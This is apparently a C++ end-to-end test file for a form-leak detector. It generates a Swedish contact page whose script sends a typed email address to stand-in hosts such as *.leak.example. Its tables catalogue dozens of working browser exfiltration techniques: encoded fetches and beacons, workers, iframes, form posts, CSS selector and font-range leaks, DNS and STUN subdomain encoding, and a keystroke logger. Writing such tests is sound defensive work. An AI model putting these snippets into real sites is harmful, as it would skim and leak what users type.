#include "tests/e2e/escape_ways.h"

namespace formleak::test {
namespace {

// From the value `v` to a text of letters and digits, such as fits any part of an address.
constexpr Coding kCodings[] = {
    {"xor", "[...v].map(c => (c.charCodeAt(0) ^ 0x5a).toString(16).padStart(2, '0')).join('')"},
    {"char codes", "[...v].map(c => c.charCodeAt(0)).join('x')"},
    {"caesar",
     "v.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 3) % 26 + 97)).replace(/\\W/g, "
     "'0')"},
    {"reversed base64", "btoa([...v].reverse().join('')).replace(/=/g, '')"},
    {"joined", "[...v].map(c => /\\w/.test(c) ? c : 'q').join('z')"},
    {"two characters", "v.slice(5, 7)"},
    {"a random key",
     "(() => { const k = [...v].map(() => Math.random() * 256 | 0); return [...v].map((c, i) => "
     "(c.charCodeAt(0) ^ k[i]).toString(16).padStart(2, '0')).join('') + 'k' + k.join('x'); })()"},
    {"sum", "'s' + [...v].reduce((a, c) => (a * 31 + c.charCodeAt(0)) >>> 0, 7)"},
    {"length", "'n' + v.length"},
    {"plain", "v.replace(/\\W/g, '')"}};

constexpr Way kResources[] = {
    {"script", "add('script', {src: h + '/' + x + '.js'})"},
    {"module", "add('script', {type: 'module', src: h + '/' + x + '.mjs'})"},
    {"import", "import(h + '/' + x + '.mjs').catch(() => 0)"},
    {"style", "add('link', {rel: 'stylesheet', href: h + '/' + x + '.css'})"},
    {"cssimport", "add('style', {textContent: '@import \"' + h + '/' + x + '.css\";'})"},
    {"background", "add('p', {style: 'background:url(' + h + '/' + x + '.png)', textContent: 'x'})"},
    {"font", "new FontFace('f' + x, 'url(' + h + '/' + x + '.woff2)').load().catch(() => 0)"},
    {"image", "new Image().src = h + '/' + x"},
    {"preload", "add('link', {rel: 'preload', as: 'style', href: h + '/' + x + '.css'})"},
    {"modulepreload", "add('link', {rel: 'modulepreload', href: h + '/' + x + '.mjs'})"},
    {"prefetch", "add('link', {rel: 'prefetch', href: h + '/' + x})"},
    {"object", "add('object', {data: h + '/' + x})"},
    {"embed", "add('embed', {src: h + '/' + x, type: 'text/html'})"},
    {"video", "add('video', {src: h + '/' + x + '.mp4', preload: 'auto'})"},
    {"manifest", "add('link', {rel: 'manifest', href: h + '/' + x + '.json'})", "", nullptr, false},
    {"bits",
     "[...x].slice(0, 6).forEach((c, i) => add('script', {src: h + '/' + i + (c.charCodeAt(0) & 1 ? 'a' : "
     "'b') + '.js'}))"},
    {"hostlabel",
     "add('script', {src: h.replace('//', '//a' + x.slice(0, 50).toLowerCase() + '.') + '/l.js'})"}};

constexpr Way kMessages[] = {
    {"fetch", "fetch(h + '/' + x).catch(() => 0)"},
    {"post", "fetch(h + '/p', {method: 'POST', body: x}).catch(() => 0)"},
    {"nocors", "fetch(h + '/' + x, {mode: 'no-cors', keepalive: true}).catch(() => 0)"},
    {"header", "fetch(h + '/h', {headers: {'X-Part': x}}).catch(() => 0)"},
    {"xhr", "(() => { const r = new XMLHttpRequest(); r.open('GET', h + '/' + x); r.send(); })()"},
    {"beacon", "navigator.sendBeacon(h + '/b', x)"},
    {"eventsource", "new EventSource(h + '/' + x)"},
    {"websocket", "new WebSocket(h.replace('https', 'wss') + '/' + x)"},
    {"worker",
     "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + h + '/' + x + '\").catch(() => 0)'])))"},
    {"importscripts",
     "new Worker(URL.createObjectURL(new Blob(['try { importScripts(\"' + h + '/' + x + '.js\") } "
     "catch {}'])))"},
    {"referrer",
     "(() => { const a = location.href; history.replaceState(0, '', '/r/' + x); fetch(h + '/r', "
     "{referrerPolicy: 'unsafe-url'}).catch(() => 0); history.replaceState(0, '', a); })()"},
    {"later", "setTimeout(() => add('script', {src: h + '/' + x + '.js'}), 900)"}};

constexpr Way kDocuments[] = {
    {"frame", "add('iframe', {src: h + '/' + x})"},
    {"srcdoc", "add('iframe', {srcdoc: '<script src=\"' + h + '/' + x + '.js\"><\\/script>'})"},
    {"dataframe", "add('iframe', {src: 'data:text/html,<img src=' + h + '/' + x + '>'})"},
    {"popup", "open(h + '/' + x)"},
    {"noopener", "open(h + '/' + x, '_blank', 'noopener')"},
    {"getform", "send(h + '/g', 'get', x)"},
    {"postform", "send(h + '/p', 'post', x)"},
    {"ping", "(() => { const a = add('a', {href: '#p', ping: h + '/' + x}); a.click(); })()"},
    {"redirect", "fetch('/to/' + encodeURIComponent(h + '/' + x)).catch(() => 0)"},
    {"frameredirect", "add('iframe', {src: '/to/' + encodeURIComponent(h + '/' + x)})"},
    {"loadedframe", "frames[0].postMessage(h + '/' + x, '*')"},
    {"location", "location = h + '/' + x"}};

constexpr const char* kHtml = "const put = html => document.body.insertAdjacentHTML('beforeend', html);";

constexpr Way kFurther[] = {
    // What was tried against the program first.
    {"aes",
     "const k = await crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, true, ['encrypt']); const c "
     "= "
     "new Uint8Array(await crypto.subtle.encrypt({name: 'AES-GCM', iv: new Uint8Array(12)}, k, new "
     "TextEncoder().encode(v))); add('script', {src: h + '/' + [...c].map(b => b.toString(16)).join('') + "
     "'.js'})"},
    {"zerowidth", "add('script', {src: h + '/' + encodeURIComponent([...v].join('\\u200b')) + '.js'})"},
    {"pairs",
     "for (let i = 0; i < v.length; i += 2) add('script', {src: h + '/' + i + '-' + v.slice(i, i + 2) + "
     "'.js'})"},
    {"keystrokes", "0",
     "document.addEventListener('input', e => { new Image().src = h + '/k' + "
     "e.target.value.charCodeAt(e.target.value.length - 1); })"},
    {"framecookie", "frames[0].postMessage('https://partner.example/' + x, '*')", "", "partner.example"},
    {"after5s", "setTimeout(() => add('script', {src: h + '/' + x + '.js'}), 5000)"},
    {"closedroot",
     "add('div', {}).attachShadow({mode: 'closed'}).innerHTML = '<img src=\"' + h + '/' + x + '\">'"},
    {"selectors", "field.setAttribute('value', v)",
     "add('style', {textContent: [...'abcdefghijklmnopqrstuvwxyz0123456789'].map(c => 'input[value^=' + "
     "JSON.stringify(c) + ']{background:url(' + h + '/' + c + ')}').join('')})"},
    {"glyphs", "add('p', {style: 'font-family:told', textContent: v})",
     "add('style', {textContent: [...'abcdefghijklmnopqrstuvwxyz'].map(c => '@font-face{font-family:told;"
     "src:url(' + h + '/' + c + ');unicode-range:U+' + c.charCodeAt(0).toString(16) + '}').join('')})"},

    // Other names of other hosts.
    {"owndomain", "add('script', {src: 'https://owndomain.escapes.example/' + x + '.js'})", "",
     "owndomain.escapes.example"},
    {"address", "new Image().src = 'https://198.51.100.9/' + x", "", "198.51.100.9"},
    {"address6", "fetch('https://[2001:db8:7::7]/' + x).catch(() => 0)", "", "2001:db8:7::7"},
    {"dotted", "add('script', {src: 'https://dotted.leak.example./' + x + '.js'})"},
    {"international", "add('script', {src: 'https://\u00e5\u00e4\u00f6.leak.example/' + x + '.js'})", "",
     "xn--4cab6c.leak.example"},
    {"otherport", "fetch('https://otherport.leak.example:8443/' + x).catch(() => 0)"},
    {"login", "fetch('https://login.leak.example/', {headers: {Authorization: 'Basic ' + btoa(x)}})"},
    {"hosts",
     "[...x].slice(0, 12).forEach((c, i) => new Image().src = 'https://' + i + 'n' + c.charCodeAt(0) + "
     "'.hosts.leak.example/')"},

    // Pictures, sounds, styles.
    {"poster", "add('video', {poster: h + '/' + x})"},
    {"audio", "add('audio', {src: h + '/' + x, preload: 'auto'})"},
    {"track",
     "const t = document.createElement('track'); t.src = h + '/' + x; t.default = true; add('video', "
     "{crossOrigin: 'anonymous'}).append(t); t.track.mode = 'showing'"},
    {"srcset", "add('img', {srcset: h + '/' + x + ' 1x'})"},
    {"picture", "put('<picture><source srcset=\"' + h + '/' + x + '\"><img></picture>')", kHtml},
    {"imagebutton", "add('input', {type: 'image', src: h + '/' + x})"},
    {"svgimage", "put('<svg><image href=\"' + h + '/' + x + '\"/></svg>')", kHtml},
    {"svgfilter",
     "put('<svg><filter id=f><feImage href=\"' + h + '/' + x + '\"/></filter><rect filter=\"url(#f)\" "
     "width=9 "
     "height=9 /></svg>')",
     kHtml},
    {"liststyle", "put('<li style=\"list-style-image:url(' + h + '/' + x + ')\">x')", kHtml},
    {"mask", "add('p', {style: 'mask-image:url(' + h + '/' + x + ')', textContent: 'x'})"},
    {"border", "add('p', {style: 'border:9px solid;border-image-source:url(' + h + '/' + x + ')'})"},
    {"content", "add('style', {textContent: 'body::after{content:url(' + h + '/' + x + ')}'})"},
    {"cssvariable",
     "document.body.style.setProperty('--a', 'url(' + h + '/' + x + ')'); document.body.style.background = "
     "'var(--a)'"},
    {"adopted",
     "const s = new CSSStyleSheet(); s.replaceSync('p{background:url(' + h + '/' + x + ')}'); "
     "document.adoptedStyleSheets = [s]"},
    {"attribution", "add('img', {attributionSrc: '', src: h + '/' + x})"},
    {"base", "add('base', {href: h + '/'}); new Image().src = x"},

    // Code.
    {"moduleworker",
     "new Worker(URL.createObjectURL(new Blob(['import \"' + h + '/' + x + '.mjs\"'], {type: "
     "'text/javascript'})), {type: 'module'})"},
    {"nestedworker",
     "const inner = 'fetch(\"' + h + '/' + x + '\").catch(() => 0)'; new Worker(URL.createObjectURL(new "
     "Blob(['new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '])))'])))"},
    {"sharedworker",
     "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + h + '/' + x + '\").catch(() => 0)'])))"},
    {"serviceworker", "(await worked).active.postMessage(h + '/' + x)",
     "const worked = navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)"},
    {"channel",
     "const w = new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch(e.data).catch(() => "
     "0)']))); "
     "w.postMessage(h + '/' + x)"},
    {"audioworklet", "new AudioContext().audioWorklet.addModule(h + '/' + x + '.js').catch(() => 0)"},
    {"paintworklet", "CSS.paintWorklet.addModule(h + '/' + x + '.js').catch(() => 0)"},
    {"wasm", "WebAssembly.instantiateStreaming(fetch(h + '/' + x)).catch(() => 0)"},
    {"idle", "requestIdleCallback(() => fetch(h + '/' + x).catch(() => 0))"},
    {"interval",
     "let n = 0; const t = setInterval(() => { new Image().src = h + '/' + x[n] + n; if (++n > 5) "
     "clearInterval(t); }, 60)"},
    {"syncxhr",
     "const r = new XMLHttpRequest(); r.open('POST', h + '/', false); try { r.send(x); } catch {}"},
    {"socketprotocol", "new WebSocket(h.replace('https', 'wss') + '/s', [x.replace(/\\W/g, 'x')])"},
    {"socketbytes", "const s = new WebSocket(h.replace('https', 'wss') + '/s'); s.onopen = () => s.send(x)"},
    {"stream",
     "fetch(h + '/s', {method: 'POST', duplex: 'half', body: new Blob([x]).stream()}).catch(() => 0)"},
    {"formdata",
     "const f = new FormData(); f.append('f', new Blob([x]), 'n'); fetch(h + '/', {method: 'POST', body: "
     "f, mode: 'no-cors'}).catch(() => 0)"},

    // Ways that no request takes.
    {"webtransport", "new WebTransport(h + '/' + x).ready.catch(() => 0)"},
    {"turn",
     "new RTCPeerConnection({iceServers: [{urls: 'turn:turn.leak.example:3478', username: x, credential: "
     "x}]})"
     ".createDataChannel('d')"},
    {"stun",
     "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:a' + x.slice(0, 40).toLowerCase() + "
     "'.stun.leak.example:3478'}]}); p.createDataChannel('d'); p.setLocalDescription(await p.createOffer())"},
    {"speculation",
     "add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: [h + '/' + "
     "x]}]})})"},
    {"prerender", "add('link', {rel: 'prerender', href: h + '/' + x})"},
    {"preconnect",
     "add('link', {rel: 'preconnect', href: h.replace('//', '//a' + x.slice(0, 40).toLowerCase() + '.')})"},
    {"dnsprefetch",
     "add('link', {rel: 'dns-prefetch', href: h.replace('//', '//a' + x.slice(0, 40).toLowerCase() + '.')})"},

    // Documents.
    {"written",
     "const f = add('iframe', {}); f.contentDocument.write('<script src=\"' + h + '/' + x + "
     "'.js\"><\\/script>')"},
    {"blobframe",
     "add('iframe', {src: URL.createObjectURL(new Blob(['<img src=\"' + h + '/' + x + '\">'], {type: "
     "'text/html'}))})"},
    {"javascriptframe", "add('iframe', {src: 'javascript:void(new Image().src=\"' + h + '/' + x + '\")'})"},
    {"sandboxed", "add('iframe', {sandbox: 'allow-scripts', src: h + '/' + x})"},
    {"framename", "add('iframe', {name: x, src: h + '/n'})"},
    {"fragment", "add('iframe', {src: h + '/n#' + x})"},
    {"refresh", "add('meta', {httpEquiv: 'refresh', content: '0;url=' + h + '/' + x})"},
    {"framerefresh",
     "add('iframe', {srcdoc: '<meta http-equiv=refresh content=\"0;url=' + h + '/' + x + '\">'})"},
    {"windowname", "window.name = x; location = h + '/n'"},
    {"replaced", "location.replace(h + '/' + x)"},
    {"anchor", "add('a', {href: h + '/' + x}).click()"},
    {"anchorblank", "add('a', {href: h + '/' + x, target: '_blank', rel: 'noreferrer'}).click()"},
    {"download", "add('a', {href: h + '/' + x, download: 'x'}).click()"},
    {"formaction",
     "const f = add('form', {target: '_blank', method: 'post'}), b = document.createElement('button'); "
     "b.formAction = h + '/' + x; f.append(b); f.requestSubmit(b)"},
    {"textform",
     "const f = add('form', {target: '_blank', method: 'post', enctype: 'text/plain', action: h + '/'}); "
     "f.append(Object.assign(document.createElement('textarea'), {name: 'n', value: x})); f.submit()"},
    {"frameform",
     "add('iframe', {name: 'aim'}); const f = add('form', {target: 'aim', action: h + '/'}); "
     "f.append(Object.assign(document.createElement('input'), {name: 'n', value: x})); f.submit()"},
    {"emptywindow", "const w = open('about:blank'); w.document.write('<img src=\"' + h + '/' + x + '\">')"},
    {"windowmoved", "const w = open(''); w.location = h + '/' + x"},
    {"opened", "open('/opened.html#' + encodeURIComponent(h + '/' + x))"},
    {"leaving", "addEventListener('pagehide', () => navigator.sendBeacon(h + '/', x))"},
    {"hiding", "addEventListener('visibilitychange', () => navigator.sendBeacon(h + '/', x))"},
};

constexpr const char* kHead =
    "const add = (tag, what) => { const e = Object.assign(document.createElement(tag), what); "
    "document.body.append(e); return e; };\n"
    "const send = (to, method, x) => { const f = add('form', {action: to, method, target: '_blank'}); "
    "f.append(Object.assign(document.createElement('input'), {name: 'n', value: x, type: 'hidden'})); "
    "f.submit(); };\n"
    "const field = document.querySelector('input'), hands = [];\n";

}  // namespace

std::string host_of(const Way& way) {
    return way.host ? way.host : way.name + std::string(".leak.example");
}

std::string escape_page(const Coding& coding, std::span<const Way> ways) {
    std::string script = kHead;
    for (const Way& way : ways)
        script += "{ const h = 'https://" + std::string(way.name) + ".leak.example'; " + way.at_load +
                  "; hands.push(async (v, x) => { " + way.code + "; }); }\n";
    script +=
        "const hand = () => { const v = field.value; if (!v) return; const x = " + std::string(coding.code) +
        "; for (const way of hands) way(v, x).catch(() => 0); };\n"
        "field.addEventListener('blur', hand);\n"
        "document.querySelector('button').addEventListener('click', hand);\n";
    return "<!doctype html><title>Kontakt</title><iframe src='https://partner.example/f'></iframe>"
           "<form action='/tack' method='post'><label>E-post <input type='email' name='epost'></label>"
           "<button type='button'>Vidare</button></form><p>En sida som ber\u00e4ttar allt f\u00f6r alla.</p>"
           "<script>" +
           script + "</script>";
}

std::span<const Coding> escape_codings() {
    return kCodings;
}
std::span<const Way> resource_ways() {
    return kResources;
}
std::span<const Way> message_ways() {
    return kMessages;
}
std::span<const Way> document_ways() {
    return kDocuments;
}
std::span<const Way> further_ways() {
    return kFurther;
}

}  // namespace formleak::test
